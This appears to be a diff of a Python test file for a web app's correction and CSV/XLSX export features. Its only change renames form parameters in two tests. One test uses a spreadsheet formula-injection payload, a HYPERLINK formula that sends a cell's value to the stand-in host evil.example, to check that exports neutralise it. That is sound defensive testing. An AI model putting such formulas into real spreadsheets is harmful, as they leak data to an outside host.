@@ -465,7 +465,7 @@ def test_a_formula_typed_as_a_correction_is_exported_as_text(site: Site) -> None
     opener, token = signed_in_client(site)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     assert _fetch(opener, f"{site.url}/fields/{field[0][0]}/decide",
-                  {"action": "correct", "value": formula, "csrf_token": token})[0] == 303
+                  {"decision": "corrected", "value": formula, "csrf_token": token})[0] == 303
     assert "'" + formula in _csv_cells(_export(opener, site.url, "csv", True), "value")
     assert (formula, "s") in _xlsx_cells(_export(opener, site.url, "xlsx", True), "value")
 
@@ -475,7 +475,7 @@ def test_text_corrections_keep_their_commas(site: Site) -> None:
     opener, token = signed_in_client(site)
     typed = "某市人民政府办公室,信息公开科，第一组"
     assert _fetch(opener, f"{site.url}/fields/{field[0][0]}/decide",
-                  {"action": "correct", "value": typed, "csrf_token": token})[0] == 303
+                  {"decision": "corrected", "value": typed, "csrf_token": token})[0] == 303
     new = _query(site, "select new from correction where field_id = ? order by id desc limit 1", field[0][0])
     assert new[0][0] == typed
 
